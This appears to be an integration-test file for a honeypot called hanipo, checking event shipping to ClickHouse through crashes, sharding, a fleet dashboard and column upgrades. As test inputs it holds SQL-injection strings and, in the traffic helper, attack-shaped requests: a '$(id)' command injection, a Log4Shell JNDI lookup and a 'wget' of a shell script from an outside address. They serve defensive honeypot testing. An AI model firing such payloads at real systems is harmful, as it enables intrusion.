"""
cases_clickhouse.py - integration cases for [output clickhouse] and `hanipo clickhouse init` (issue 12).

Imported by run.py; every @case here is appended to cases.ALL.

Each case starts its own clickhouse-server (Debian's package, 18.16) on loopback, on random
ports, with its data in the case's temporary directory, and talks to it over its HTTP interface
(what an operator's clickhouse-client or curl would see).  What is checked:

  - two sensors ship into one ClickHouse while it is stopped (SIGKILL) for ~10 s and one sensor
    is killed with SIGKILL (with a backlog in its spool) and restarted; then one sensor restarts
    with its spool's acknowledgement position lost: afterwards ClickHouse holds, per sensor,
    exactly the events of that sensor's JSONL files - same uids, none twice;
  - `hanipo clickhouse init --cluster` over two servers configured as two shards: the
    Distributed table receives both sensors' events, spread over both shards.
"""
import base64
import glob
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request

from harness import T, Service, Skip, free_port, wait_for, HANIPO_BIN
from cases import case

SERVER = "/usr/sbin/clickhouse-server"


class ClickHouse:
    """One clickhouse-server in dir, HTTP on a random port; user 'hp' with a password."""

    def __init__(self, dir, cluster=None):
        self.dir = dir
        self.http = free_port()
        self.tcp = free_port()
        self.inter = free_port()
        self.cluster = cluster           # (name, [tcp ports of the shards]) or None
        self.proc = None
        os.makedirs(dir, exist_ok=True)

    def write_config(self):
        remote = ""
        if self.cluster:
            name, ports = self.cluster
            shards = "".join("<shard><replica><host>127.0.0.1</host><port>%d</port></replica></shard>" % p
                             for p in ports)
            remote = "<remote_servers><%s>%s</%s></remote_servers>" % (name, shards, name)
        d = self.dir
        with open(os.path.join(d, "config.xml"), "w") as f:
            f.write("""<yandex>
  <logger><level>warning</level><log>{d}/server.log</log><errorlog>{d}/error.log</errorlog></logger>
  <listen_host>127.0.0.1</listen_host>
  <http_port>{http}</http_port><tcp_port>{tcp}</tcp_port><interserver_http_port>{inter}</interserver_http_port>
  <path>{d}/data/</path><tmp_path>{d}/tmp/</tmp_path><user_files_path>{d}/user_files/</user_files_path>
  <format_schema_path>{d}/format_schemas/</format_schema_path>
  <users_config>{d}/users.xml</users_config>
  <default_profile>default</default_profile><default_database>default</default_database>
  <mark_cache_size>16777216</mark_cache_size><uncompressed_cache_size>16777216</uncompressed_cache_size>
  <mlock_executable>false</mlock_executable>
  {remote}
</yandex>
""".format(d=d, http=self.http, tcp=self.tcp, inter=self.inter, remote=remote))
        with open(os.path.join(d, "users.xml"), "w") as f:
            f.write("""<yandex>
  <profiles><default><max_memory_usage>1000000000</max_memory_usage></default></profiles>
  <users>
    <default><password></password><networks><ip>127.0.0.1</ip></networks><profile>default</profile><quota>default</quota></default>
    <hp><password>s3cr3t pass</password><networks><ip>127.0.0.1</ip></networks><profile>default</profile><quota>default</quota></hp>
  </users>
  <quotas><default></default></quotas>
</yandex>
""")

    def start(self):
        self.write_config()
        self.log = open(os.path.join(self.dir, "stdout.txt"), "ab")
        self.proc = subprocess.Popen([SERVER, "--config-file=%s/config.xml" % self.dir], cwd=self.dir,
                                     stdin=subprocess.DEVNULL, stdout=self.log, stderr=self.log)
        wait_for(lambda: self.ping(), T(30), interval=0.1, what="clickhouse-server on port %d" % self.http)
        return self

    def ping(self):
        if self.proc.poll() is not None:
            raise AssertionError("clickhouse-server exited: %s" % self.tail())
        try:
            with urllib.request.urlopen("http://127.0.0.1:%d/ping" % self.http, timeout=1) as r:
                return r.read().startswith(b"Ok")
        except OSError:
            return False

    def stop(self, sig=signal.SIGTERM):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(sig)
            try:
                self.proc.wait(T(20))
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        if self.proc:
            self.log.close()
        self.proc = None

    def tail(self):
        try:
            with open(os.path.join(self.dir, "error.log"), "rb") as f:
                return f.read()[-2000:].decode("utf-8", "replace")
        except OSError:
            return ""

    @property
    def url(self):
        return "http://127.0.0.1:%d" % self.http

    def query(self, sql, user="hp", password="s3cr3t pass"):
        req = urllib.request.Request(self.url + "/?" + urllib.parse.urlencode({"query": sql}), data=b"",
                                     method="POST")
        req.add_header("Authorization", "Basic " + base64.b64encode(("%s:%s" % (user, password)).encode()).decode())
        with urllib.request.urlopen(req, timeout=T(20)) as r:
            return r.read().decode()

    def rows(self, sql):
        return [l.split("\t") for l in self.query(sql + " FORMAT TabSeparated").splitlines() if l]


def need_clickhouse(ctx):
    if not os.access(SERVER, os.X_OK):
        raise Skip("clickhouse-server is not installed (tools/deps.sh)")


def ch_output(ch, password_file, **extra):
    o = {"enabled": "true", "url": ch.url, "user": "hp", "password_file": password_file,
         "batch_delay": "100ms", "timeout": "3s"}
    o.update(extra)
    return o


def init(d, *args):
    """`hanipo clickhouse init` with sensor d's configuration (written here: d has not started)."""
    for s in d.services:
        s.allocate()
    with open(d.config_path, "w") as f:
        f.write(d.config_text())
    r = subprocess.run([HANIPO_BIN, "clickhouse", "init", "-c", d.config_path] + list(args),
                       capture_output=True, timeout=T(60))
    assert r.returncode == 0, (r.stdout, r.stderr)
    return r.stdout.decode()


class Load:
    """Connections to each sensor's trap port in a loop (a few events each); pausable per sensor."""

    def __init__(self, daemons):
        self.daemons = daemons
        self.paused = set()
        self.stop_flag = False
        self.sent = {d.label: 0 for d in daemons}
        self.threads = [threading.Thread(target=self.run, args=(d,), daemon=True) for d in daemons]
        for t in self.threads:
            t.start()

    def run(self, d):
        i = 0
        while not self.stop_flag:
            if d.label in self.paused or not d.alive():
                time.sleep(0.02)
                continue
            try:
                s = socket.create_connection(("127.0.0.1", d.svc("trap").port), timeout=2)
                s.sendall(b"GET /load/%d HTTP/1.0\r\n\r\n" % i)
                s.close()
                self.sent[d.label] += 1
            except OSError:
                pass
            i += 1
            time.sleep(0.004)

    def stop(self):
        self.stop_flag = True
        for t in self.threads:
            t.join(5)


def jsonl_uids(d):
    return [e["uid"] for e in d.events()]


def ch_uids(ch, sensor):
    return [r[0] for r in ch.rows("SELECT uid FROM hanipo.events WHERE sensor = '%s'" % sensor)]


def spool_bytes(d):
    return sum(os.path.getsize(p) for p in glob.glob(os.path.join(d.data_dir, "spool/clickhouse/seg-*")))


@case
def clickhouse_outage_kill9_no_loss(ctx):
    """Two sensors, ClickHouse down ~10 s, a sensor SIGKILLed with a backlog: every event once."""
    need_clickhouse(ctx)
    ch = ClickHouse(os.path.join(ctx_tmp(ctx), "ch"))
    ctx.defer(lambda: ch.stop(signal.SIGKILL))
    ch.start()
    pw = os.path.join(ctx_tmp(ctx), "ch-password")
    with open(pw, "w") as f:
        f.write("s3cr3t pass\n")
    sensors = []
    for name in ("sensor-a", "sensor-b"):
        d = ctx.daemon(name, [Service("trap")], sensor={"name": name},
                       outputs={"jsonl": {"enabled": "true"}, "clickhouse": ch_output(ch, pw)})
        sensors.append(d)
    a, b = sensors
    out = init(a)
    assert "hanipo.events ready" in out, out
    for d in sensors:
        d.start()
    load = Load(sensors)
    try:
        # Live shipping works before anything breaks.
        wait_for(lambda: len(ch_uids(ch, "sensor-a")) > 0 and len(ch_uids(ch, "sensor-b")) > 0, T(15),
                 interval=0.2, what="first rows in ClickHouse")
        time.sleep(1)
        ch.stop(signal.SIGKILL)            # a crash: INSERTs in flight have an unknown outcome
        t_down = time.monotonic()
        time.sleep(T(3))
        # kill -9 sensor-b while its batches wait in the spool.  Its load pauses first so the
        # JSONL and ClickHouse writers have both taken what it accepted (the in-memory queues
        # are what kill -9 takes with it, by design; the spool must survive).
        load.paused.add("sensor-b")
        time.sleep(1)
        backlog = spool_bytes(b)
        assert backlog > 0, "sensor-b has no spooled batches while ClickHouse is down"
        b.kill()
        assert b.returncode == -signal.SIGKILL, b.returncode
        b.start()
        load.paused.discard("sensor-b")
        time.sleep(max(0, T(10) - (time.monotonic() - t_down)))
        ch.start()
        time.sleep(T(3))
    finally:
        load.stop()
    # The backlogs drain (a stop ships for at most a few seconds; the rest would wait for the next start).
    for d in sensors:
        wait_for(lambda: len(ch_uids(ch, d.label)) >= len(jsonl_uids(d)), T(30), interval=0.5,
                 what="%s's backlog in ClickHouse" % d.label)
    for d in sensors:
        d.stop()
    # A lost acknowledgement position (ack file gone: as if never written before a power cut):
    # the batches still in the spool's last segment are sent again only if not already stored.
    os.unlink(os.path.join(a.data_dir, "spool/clickhouse/ack"))
    a.start()
    skipped = "were already stored before the retry; not sent again"
    try:
        wait_for(lambda: skipped in a.stderr(), T(10), interval=0.1, what="sensor-a skipping stored batches")
    except AssertionError:
        pass                                   # the row checks below tell what went wrong
    a.stop()
    for d in sensors:
        want = jsonl_uids(d)
        assert len(want) > 100, (d.label, len(want))
        got = ch_uids(ch, d.label)
        assert len(got) == len(set(got)), "%s: %d rows, %d distinct uids" % (d.label, len(got), len(set(got)))
        missing = set(want) - set(got)
        extra = set(got) - set(want)
        assert not missing and not extra, "%s: %d in JSONL, %d in ClickHouse; missing %s; extra %s" % (
            d.label, len(want), len(got), sorted(missing)[:5], sorted(extra)[:5])
        assert len(got) == len(want)
        err = d.stderr()
        assert "clickhouse: cannot ship to" in err, err[-3000:]
        assert "clickhouse: shipping to %s works again" % ch.url in err, err[-3000:]
    assert skipped in a.stderr(), a.stderr()[-3000:]
    assert "batches (" in b.stderr() and "from before the restart wait in" in b.stderr(), b.stderr()[-3000:]
    # The columns are the header's; data is the event JSON as written to the JSONL file.
    row = json.loads(ch.query("SELECT eventid, protocol, src_ip, dst_port, data, toString(day) AS d, uid "
                              "FROM hanipo.events WHERE sensor = 'sensor-a' AND eventid = 'session.connect' "
                              "LIMIT 1 FORMAT JSONEachRow"))
    ev = json.loads(row["data"])
    assert row["eventid"] == ev["eventid"] == "session.connect", row
    assert row["src_ip"] == ev["src_ip"] == "127.0.0.1" and row["dst_port"] == ev["dst_port"], row
    assert row["d"] == ev["timestamp"][:10] and row["uid"] == ev["uid"], row
    ctx.note("sensor-a %d events, sensor-b %d events, sensor-b spool at kill %d bytes" % (
        len(jsonl_uids(a)), len(jsonl_uids(b)), backlog))


def ctx_tmp(ctx):
    """A temporary directory removed with the case (kept like the daemons' when HANIPO_KEEP)."""
    if not hasattr(ctx, "_ch_tmp"):
        import tempfile
        ctx._ch_tmp = tempfile.mkdtemp(prefix="hanipo-it-ch-")
        os.chmod(ctx._ch_tmp, 0o755)
        if not os.environ.get("HANIPO_KEEP"):
            ctx.defer(lambda: shutil.rmtree(ctx._ch_tmp, ignore_errors=True))
    return ctx._ch_tmp


@case
def clickhouse_two_shard_distributed(ctx):
    """init --cluster over two servers; the Distributed table gets both sensors' events, on both shards."""
    need_clickhouse(ctx)
    s1 = ClickHouse(os.path.join(ctx_tmp(ctx), "ch1"))
    s2 = ClickHouse(os.path.join(ctx_tmp(ctx), "ch2"))
    for s in (s1, s2):
        s.cluster = ("two", [s1.tcp, s2.tcp])
        ctx.defer(lambda s=s: s.stop(signal.SIGKILL))
    s1.start()
    s2.start()
    pw = os.path.join(ctx_tmp(ctx), "ch-password")
    with open(pw, "w") as f:
        f.write("s3cr3t pass")
    # Sensor a writes through shard 1's Distributed table, sensor b through shard 2's.
    a = ctx.daemon("shard-a", [Service("trap")], sensor={"name": "shard-a"},
                   outputs={"jsonl": {"enabled": "true"}, "clickhouse": ch_output(s1, pw, batch_delay="0")})
    b = ctx.daemon("shard-b", [Service("trap")], sensor={"name": "shard-b"},
                   outputs={"jsonl": {"enabled": "true"}, "clickhouse": ch_output(s2, pw, batch_delay="0")})
    init(a, "--cluster", "two", "--shard", s1.url, "--shard", s2.url)
    engine = s2.rows("SELECT engine FROM system.tables WHERE database = 'hanipo' ORDER BY name")
    assert engine == [["Distributed"], ["MergeTree"]], engine
    a.start()
    b.start()
    for i in range(30):                      # many small batches: spread over both shards
        for d in (a, b):
            socket.create_connection(("127.0.0.1", d.svc("trap").port), timeout=2).close()
        time.sleep(0.06)
    a.stop()
    b.stop()
    for d in (a, b):
        want = sorted(jsonl_uids(d))
        got = sorted(r[0] for r in s1.rows("SELECT uid FROM hanipo.events WHERE sensor = '%s'" % d.label))
        assert got == want, (d.label, len(want), len(got))
    local = [int(s.rows("SELECT count() FROM hanipo.events_local")[0][0]) for s in (s1, s2)]
    total = int(s2.rows("SELECT count() FROM hanipo.events")[0][0])
    assert all(n > 0 for n in local) and sum(local) == total, (local, total)
    # the hot columns read through the Distributed table (DEFAULT there and in the shards)
    # equal the JSON they come from
    hot = s1.rows("SELECT sensor, countIf(isNotNull(src_cc)), countIf(isNotNull(username)), count() FROM "
                  "hanipo.events GROUP BY sensor ORDER BY sensor")
    raw = s1.rows("SELECT sensor, countIf(visitParamHas(data, 'src_cc')), countIf(visitParamHas(data, 'username')),"
                  " count() FROM hanipo.events GROUP BY sensor ORDER BY sensor")
    assert hot == raw and len(hot) == 2, (hot, raw)
    ctx.note("shards hold %d + %d rows" % tuple(local))


# ---- the dashboard over ClickHouse (a fleet's central analysis box) ------------------------------

HOSTILE = ["') OR 1=1 --", "x' OR '1'='1", "\\", "a\\' OR 1=1 --", "tokyo' --", "tokyo\\", "%s", "\"; DROP TABLE x"]


def dash_get(url, token, path):
    req = urllib.request.Request(url + "/api/" + path)
    req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req, timeout=T(30)) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


@case
def clickhouse_fleet_dashboard(ctx):
    """`hanipo dashboard --store clickhouse://...`: both sensors, sensor=, per-sensor breakdowns, hostile values."""
    need_clickhouse(ctx)
    from cases_dashboard import telnet_session
    ch = ClickHouse(os.path.join(ctx_tmp(ctx), "ch"))
    ctx.defer(lambda: ch.stop(signal.SIGKILL))
    ch.start()
    pw = os.path.join(ctx_tmp(ctx), "ch-password")
    with open(pw, "w") as f:
        f.write("s3cr3t pass\n")
    # paris's attacker tries a password that is itself an injection: searching for it must find exactly it
    # (no root: the built-in rules would let root in, and the next pairs would be shell input)
    plan = {"tokyo": (3, [("admin", "123456"), ("support", "support")]),
            "paris": (5, [("guest", HOSTILE[0]), ("admin", "admin"), ("ubnt", "ubnt")])}
    sensors = {}
    for name in plan:
        sensors[name] = ctx.daemon(name, [Service("trap"), Service("telnet", protocol="telnet")],
                                   sensor={"name": name},
                                   outputs={"jsonl": {"enabled": "true"}, "clickhouse": ch_output(ch, pw)})
    init(sensors["tokyo"])
    for name, d in sensors.items():
        d.start()
        traps, logins = plan[name]
        for i in range(traps):
            s = socket.create_connection(("127.0.0.1", d.svc("trap").port), timeout=T(5))
            s.sendall(b"probe %d\r\n" % i)
            s.close()
        telnet_session(d.svc("telnet").port, logins, [])
    for name, d in sensors.items():
        wait_for(lambda: sum(e["eventid"].startswith("login.") for e in d.events()) >= len(plan[name][1]) and
                 len(ch_uids(ch, name)) >= len(jsonl_uids(d)) > 0, T(30), interval=0.3,
                 what="%s's events in ClickHouse" % name)
    for d in sensors.values():
        d.stop()
    evs = {name: d.events() for name, d in sensors.items()}
    for name in evs:
        got, want = sorted(ch_uids(ch, name)), sorted(e["uid"] for e in evs[name])
        assert got == want, "%s: ClickHouse %d rows, JSONL %d" % (name, len(got), len(want))

    # the central box: a configuration without any [service], credentials in its store URL
    port = free_port()
    dd = os.path.join(ctx_tmp(ctx), "central")
    conf = os.path.join(ctx_tmp(ctx), "central.ini")
    with open(conf, "w") as f:
        f.write("[sensor]\nname = central\ndata_dir = %s\n\n[dashboard]\nstore = clickhouse://hp:s3cr3t%%20pass@"
                "127.0.0.1:%d/hanipo\n\n[report]\nsensor_country = tokyo:JP paris:FR\n" % (dd, ch.http))
    log = open(os.path.join(ctx_tmp(ctx), "dashboard.log"), "wb")
    proc = subprocess.Popen([HANIPO_BIN, "dashboard", "-c", conf, "--listen", "127.0.0.1:%d" % port],
                            stdin=subprocess.DEVNULL, stdout=log, stderr=log)

    def stop_dash():
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(T(10))
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
        if not log.closed:
            log.close()
    ctx.defer(stop_dash)
    tok = os.path.join(dd, "dashboard.token")
    wait_for(lambda: os.path.exists(tok) and proc.poll() is None, T(10), what="the dashboard's token")
    with open(tok) as f:
        token = f.read().strip()
    url = "http://127.0.0.1:%d" % port

    def listening():
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return True
        except OSError:
            return False
    wait_for(listening, T(10), what="the dashboard port")

    def ok(path):
        st, body = dash_get(url, token, path)
        assert st == 200, (path, st, body)
        return body

    st = ok("status")
    assert st["fleet"] is True and st["store"] is True and st["sensors"] == ["paris", "tokyo"], st
    rng = "last=1d"
    ov = ok("overview?" + rng)
    total = sum(len(e) for e in evs.values())
    assert ov["fleet"] is True and ov["totals"]["events"] == total, (ov["totals"], total)
    per = {r["sensor"]: r for r in ov["sensors"]}
    for name, e in evs.items():
        assert per[name]["events"] == len(e), (name, per[name], len(e))
        assert per[name]["connects"] == sum(x["eventid"] == "session.connect" for x in e), per[name]
        assert per[name]["sensor_cc"] == {"tokyo": "JP", "paris": "FR"}[name], per[name]
    connects = sum(x["eventid"] == "session.connect" for e in evs.values() for x in e)
    assert sum(r["connections"] for r in ov["country_pairs"]) == connects, ov["country_pairs"]
    assert {r["sensor_cc"] for r in ov["country_pairs"]} == {"JP", "FR"}, ov["country_pairs"]
    # the sensor filter narrows every view
    for name, e in evs.items():
        one = ok("overview?%s&sensor=%s" % (rng, name))
        assert one["totals"]["events"] == len(e), (name, one["totals"])
        assert [r["sensor"] for r in one["sensors"]] == [name], one["sensors"]
        ss = ok("sessions?%s&limit=500&sensor=%s" % (rng, name))["sessions"]
        assert {r["sensor"] for r in ss} == {name} and len(ss) == per[name]["connects"], ss
    alls = ok("sessions?%s&limit=500" % rng)["sessions"]
    assert len(alls) == connects and {r["sensor"] for r in alls} == {"tokyo", "paris"}, alls
    creds = ok("credentials?" + rng)
    users = {r["key"]: r["n"] for r in creds["username"]}
    assert users == {"admin": 2, "support": 1, "guest": 1, "ubnt": 1}, creds["username"]
    tokyo_creds = ok("credentials?%s&sensor=tokyo" % rng)
    assert {r["key"] for r in tokyo_creds["username"]} == {"admin", "support"}, tokyo_creds["username"]
    # a session page from the list
    s0 = alls[0]
    page = ok("session/%s?t=%d&sensor=%s" % (s0["session"], s0["ts"], urllib.parse.quote(s0["sensor"])))
    assert page["events"] and all(ev["sensor"] == s0["sensor"] for ev in page["events"]), page
    # the injection-shaped password is data: it finds exactly paris's session that sent it
    q = urllib.parse.quote(HOSTILE[0], safe="")
    hit = ok("sessions?%s&password=%s" % (rng, q))["sessions"]
    assert len(hit) == 1 and hit[0]["sensor"] == "paris", hit
    # hostile values in every text parameter: 400 or an empty answer, never an error or more rows
    checked = 0
    for v in HOSTILE[1:] + ["paris' OR sensor = 'tokyo", "tokyo') OR ('1'='1"]:
        q = urllib.parse.quote(v, safe="")
        for path in ("overview?%s&sensor=%s" % (rng, q), "sessions?%s&sensor=%s" % (rng, q),
                     "sessions?%s&username=%s" % (rng, q), "sessions?%s&password=%s" % (rng, q),
                     "sessions?%s&command=%s" % (rng, q), "credentials?%s&sensor=%s" % (rng, q),
                     "top?%s&dim=ip&sensor=%s" % (rng, q)):
            code, body = dash_get(url, token, path)
            assert code in (200, 400), (path, code, body)
            if code == 200:
                if path.startswith("overview"):
                    assert body["totals"]["events"] == 0 and body["sensors"] == [], (path, body["totals"])
                elif path.startswith("sessions"):
                    assert body["sessions"] == [], (path, body["sessions"][:2])
                elif path.startswith("credentials"):
                    assert not body["username"] and not body["pair"], (path, body)
                else:
                    assert body["rows"] == [], (path, body)
            checked += 1
    assert proc.poll() is None, "the dashboard died"
    # SIGTERM stops it cleanly (under the sanitizers: no leak, no error report)
    stop_dash()
    with open(os.path.join(ctx_tmp(ctx), "dashboard.log"), "rb") as f:
        dlog = f.read().decode("utf-8", "replace")
    assert proc.returncode == 0 and "Sanitizer" not in dlog and "runtime error" not in dlog, (proc.returncode,
                                                                                             dlog[-3000:])
    ctx.note("tokyo %d events, paris %d; %d hostile queries answered empty" % (
        len(evs["tokyo"]), len(evs["paris"]), checked))


def hot_mismatches(ch):
    """Per hot column, the rows where the value stored differs from the column's own DEFAULT
    expression over `data` (what ClickHouse would have computed): {column: count}."""
    cols = ch.rows("SELECT name, type, default_expression FROM system.columns WHERE database = 'hanipo' "
                   "AND table = 'events' AND default_kind = 'DEFAULT'")
    assert len(cols) == 22, cols
    parts = []
    for name, typ, expr in cols:
        expr = expr.replace("\\\\", "\\").replace("\\'", "'")   # TabSeparated escaping undone
        if typ.startswith("Array"):
            parts.append("countIf(%s != %s)" % (name, expr))
        else:
            parts.append("countIf(ifNull(toString(%s), '<null>') != ifNull(toString(%s), '<null>'))" % (name, expr))
    got = ch.rows("SELECT " + ", ".join(parts) + " FROM hanipo.events")[0]
    return {c[0]: int(n) for c, n in zip(cols, got)}


@case
def clickhouse_hot_values_from_sensor(ctx):
    """A table of the previous release (hot columns MATERIALIZED): the sensor sends rows without
    them.  `hanipo clickhouse init` makes them DEFAULT; the restarted sensor then sends their
    values itself, and every value equals what the column's expression gives over `data`."""
    need_clickhouse(ctx)
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import chserver
    ch = ClickHouse(os.path.join(ctx_tmp(ctx), "ch"))
    ctx.defer(lambda: ch.stop(signal.SIGKILL))
    ch.start()
    ch.query("CREATE DATABASE hanipo")
    ch.query(chserver.MAT_TABLE)                           # MATERIALIZED hot columns
    pw = os.path.join(ctx_tmp(ctx), "ch-password")
    with open(pw, "w") as f:
        f.write("s3cr3t pass\n")
    d = ctx.daemon("chhot", [Service("web", protocol="http"), Service("ftp", protocol="ftp")], sensor={"name": "hot-1"},
                   outputs={"jsonl": {"enabled": "true"}, "clickhouse": ch_output(ch, pw)})

    def traffic(tag):
        for i, (req, ua) in enumerate([
                ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1", "curl/8"),
                ("GET /?x=%s HTTP/1.1" % tag, "${jndi:ldap://198.51.100.7:1389/Exploit%s}" % tag),
                ("GET /shell?cd+/tmp;wget+http://198.51.100.9/%s.sh HTTP/1.1" % tag, "Mozilla/5.0 \"q\" \\ \u00e9t\u00e9"),
                ("POST /wp-login.php HTTP/1.1", "python-requests/2.31")]):
            s = socket.create_connection(("127.0.0.1", d.svc("web").port), timeout=5)
            s.sendall(("%s\r\nHost: x\r\nUser-Agent: %s\r\nConnection: close\r\n\r\n" % (req, ua)).encode())
            s.recv(4096)
            s.close()
        s = socket.create_connection(("127.0.0.1", d.svc("ftp").port), timeout=5)
        f = s.makefile("rb")
        f.readline()
        for line in (b"USER root%s\r\n" % tag.encode(), b"PASS p\"a\\ss\xc3\xa9%s\r\n" % tag.encode(), b"QUIT\r\n"):
            s.sendall(line)
            f.readline()
        s.close()

    def shipped():
        return len(ch_uids(ch, "hot-1")) >= len(jsonl_uids(d)) > 0

    d.start()
    traffic("old")
    wait_for(shipped, T(15), interval=0.2, what="rows in the old table")
    d.stop()
    assert "computes its hot columns itself" in d.stderr(), d.stderr()[-2000:]
    out = init(d)
    assert out.count("made DEFAULT the column") == 22 and "hanipo.events ready" in out, out
    n_old = len(ch_uids(ch, "hot-1"))
    d.start()
    wait_for(lambda: "takes the hot columns' values" in d.stderr(), T(10), interval=0.1,
             what="the sensor asking the table")
    traffic("new")
    wait_for(shipped, T(15), interval=0.2, what="rows in the upgraded table")
    d.stop()
    assert "takes the hot columns' values: the sensor computes them" in d.stderr(), d.stderr()[-2000:]
    bad = {k: v for k, v in hot_mismatches(ch).items() if v}
    assert not bad, "hot columns differing from their expressions: %s" % bad
    # ... and the values are there (the comparison would also hold for all-NULL columns and expressions)
    c = ch.rows("SELECT countIf(username = 'rootnew'), countIf(password = 'p\"a\\\\ss\u00e9new'), "
                "countIf(has(cves, 'CVE-2021-44228')), countIf(user_agent LIKE 'Mozilla/5.0 \"q\" %'), "
                "countIf(notEmpty(attack_classes)), count() FROM hanipo.events WHERE sensor = 'hot-1'")[0]
    assert int(c[0]) >= 1 and int(c[1]) >= 1 and int(c[2]) >= 2 and int(c[3]) >= 2 and int(c[4]) >= 4, c
    ctx.note("%d rows before the upgrade, %s after; 22 hot columns equal their expressions" % (
        n_old, int(c[5]) - n_old))
